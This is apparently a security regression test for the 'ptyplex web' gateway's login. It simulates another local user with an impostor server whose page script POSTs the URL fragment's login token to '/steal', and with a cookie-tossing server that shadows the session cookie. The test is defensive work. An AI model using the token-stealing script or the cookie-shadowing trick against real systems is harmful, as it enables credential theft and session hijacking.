// An outside review of ptyplex web's login (issue 15), as another user on
// this machine would attack it, in Debian's chromium:
// - `--listen localhost:PORT`: the gateway binds one loopback address of
//   the two "localhost" names; another user listens on the other one, same
//   port. The printed URL must name the address bound, or the browser may
//   go to the other user's server, whose page reads the token from the
//   fragment.
// - A server on another port sets a cookie of the gateway's name with a
//   longer Path (cookies know no ports): the browser sends it first, and
//   the page must stay logged in.
import { spawn, type ChildProcess } from 'node:child_process';
import dns from 'node:dns/promises';
import fs from 'node:fs';
import http from 'node:http';
import net, { type AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { shellAndBrowser, startWeb, type WebRun } from './helpers/browser.js';
import { until, type TestSessions } from './helpers/session.js';

let s: TestSessions;
let browser: Browser;
const webs: WebRun[] = [];
const children: ChildProcess[] = [];
const servers: http.Server[] = [];
const dirs: string[] = [];

beforeAll(async () => {
  ({ s, browser } = await shellAndBrowser());
}, 30_000);

afterAll(async () => {
  for (const w of webs) w.kill();
  for (const c of children) if (c.pid !== undefined && c.exitCode === null) process.kill(-c.pid, 'SIGTERM');
  for (const o of servers) o.close();
  for (const d of dirs) fs.rmSync(d, { recursive: true, force: true });
  await browser?.close();
  s?.cleanup();
});

/** A port free on both loopback addresses (a dual-stack listener got it). */
async function freePort(): Promise<number> {
  const probe = net.createServer();
  await new Promise<void>((resolve) => probe.listen(0, '::', resolve));
  const { port } = probe.address() as AddressInfo;
  await new Promise((resolve) => probe.close(resolve));
  return port;
}

/** nobody's server on host:port: it logs each request it gets, and its page posts its URL's fragment home. */
async function impostor(host: string, port: number): Promise<{ hits: string[] }> {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ptyplex-impostor-'));
  dirs.push(dir);
  fs.chmodSync(dir, 0o755);
  const script = path.join(dir, 'impostor.cjs');
  fs.writeFileSync(script, `require('http').createServer((req, res) => {
  let body = '';
  req.on('data', (c) => (body += c));
  req.on('end', () => {
    console.log('HIT ' + req.method + ' ' + req.url + ' ' + body);
    res.writeHead(200, { 'Content-Type': 'text/html' }).end('<script>fetch("/steal", { method: "POST", body: location.hash })</script>');
  });
}).listen(${port}, ${JSON.stringify(host)}, () => console.log('LISTENING'));
`, { mode: 0o644 });
  const child = spawn('runuser', ['-u', 'nobody', '--', process.execPath, script], { detached: true, stdio: ['ignore', 'pipe', 'pipe'] });
  children.push(child);
  let out = '';
  let err = '';
  child.stdout!.on('data', (d: Buffer) => (out += d.toString()));
  child.stderr!.on('data', (d: Buffer) => (err += d.toString()));
  await until(() => out.includes('LISTENING') || (child.exitCode !== null && fail(`nobody's server did not start: ${err}`)), 'nobody listening', 10_000);
  return {
    get hits() {
      return out.split('\n').filter((l) => l.startsWith('HIT '));
    },
  };
}

function fail(why: string): never {
  throw new Error(why);
}

describe('review: ptyplex web against another user on this machine', () => {
  it('--listen localhost:PORT prints the address it bound; a browser following it never reaches another user\'s server on the other loopback address', async () => {
    const port = await freePort();
    // The address Node binds for "localhost" (its first), and the other one, nobody's.
    const bound = (await dns.lookup('localhost')).address;
    const other = net.isIPv6(bound) ? '127.0.0.1' : '::1';
    const thief = await impostor(other, port);
    const w = await startWeb(s, ['--listen', `localhost:${port}`]);
    webs.push(w);
    expect(new URL(w.url).hostname.replace(/^\[|\]$/g, '')).toBe(bound);

    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(w.url);
    await until(() => thief.hits.length > 0 || page.locator('#consoles tr[data-console="sh"]').isVisible(), 'the page logged in, or nobody\'s server reached', 15_000);
    expect(thief.hits).toEqual([]);
    // The token was traded by our page: it is worth nothing now.
    expect((await fetch(`${w.base}/api/login`, { method: 'POST', headers: { Origin: w.base }, body: JSON.stringify({ token: w.token }) })).status).toBe(401);
    await context.close();
  }, 60_000);

  it('a cookie of the gateway\'s name set by another port\'s server with a longer Path does not log the page out', async () => {
    const w = await startWeb(s, []);
    webs.push(w);
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(w.url);
    await page.locator('#consoles tr[data-console="sh"]').waitFor({ timeout: 10_000 });

    // Another server on this host sets ptyplex_PORT for Path=/api: it is sent first to /api/.
    const name = `ptyplex_${new URL(w.base).port}`;
    const tosser = http.createServer((_req, res) => {
      res.writeHead(200, { 'Content-Type': 'text/html', 'Set-Cookie': `${name}=${'A'.repeat(43)}; Path=/api` }).end('<!doctype html><title>another port</title>');
    });
    servers.push(tosser);
    await new Promise<void>((resolve) => tosser.listen(0, '127.0.0.1', resolve));
    const elsewhere = await context.newPage();
    await elsewhere.goto(`http://127.0.0.1:${(tosser.address() as AddressInfo).port}/`);
    const shadowed = (await context.cookies(`${w.base}/api/session`)).filter((c) => c.name === name);
    expect(shadowed.length, 'both cookies are sent to /api/').toBe(2);

    await page.reload();
    await page.locator('#consoles tr[data-console="sh"]').waitFor({ timeout: 10_000 });
    await page.locator('#consoles tr[data-console="sh"]').click();
    await page.locator('#term-status', { hasText: 'attached' }).waitFor({ timeout: 10_000 });
    await context.close();
  }, 60_000);
});
